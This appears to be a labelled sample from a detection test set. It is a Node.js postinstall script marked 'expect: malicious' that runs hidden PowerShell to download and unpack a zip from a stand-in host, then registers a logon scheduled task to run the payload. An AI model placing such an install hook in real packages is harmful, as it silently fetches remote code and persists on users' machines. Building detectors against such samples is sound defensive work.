// when: install
// expect: malicious
// source: blind set 18 (a QEMU dev-box installer, after CRON#TRAP 2024): the postinstall runs every PowerShell
// command through a small wrapper, so the commands are the wrapper's arguments, not the exec call's
const { execFileSync } = require('child_process');
const os = require('os');
const path = require('path');
const HOME = path.join(os.homedir(), 'datax');
const BASE = 'http://192.0.2.88/dl';
const ps = (cmd) => execFileSync('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-Command', cmd], { windowsHide: true });
ps(`Invoke-WebRequest '${BASE}/data.zip' -OutFile '${HOME}\\data.zip'; Expand-Archive -Force '${HOME}\\data.zip' '${HOME}'`);
ps(`Register-ScheduledTask -TaskName 'DevBoxHelper' -Action (New-ScheduledTaskAction -Execute '${HOME}\\start.bat') -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Force`);
